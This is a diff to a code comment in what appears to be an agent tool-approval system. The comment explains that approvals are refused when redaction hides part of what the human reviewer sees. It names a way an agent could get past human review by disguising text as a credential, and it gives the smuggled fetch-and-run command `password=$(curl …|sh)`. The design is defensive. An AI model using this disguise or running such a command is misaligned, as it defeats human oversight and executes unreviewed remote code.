@@ -3,8 +3,8 @@
  * (src/util/redact.ts): a span the redactor took for a credential is stored as `[redacted]`, so
  * neither the terminal's review nor the console can show it. A one-call approval signs the digest
  * of the real arguments, so a human approving over such a review approves text nobody showed
- * them, and an agent can dress any text up as a credential (a PEM key's markers around a
- * command, `password=$(curl …|sh)`). Such an approval is refused (decidableRequest, and before the
+ * them, and an agent can dress any text up as a credential (`password=$(curl …|sh)`, a long
+ * word between a PEM key's markers). Such an approval is refused (decidableRequest, and before the
  * passphrase by `approve` and the console); a denial, or a session approval (which covers the
  * tool's calls whatever their arguments), is not.
  */
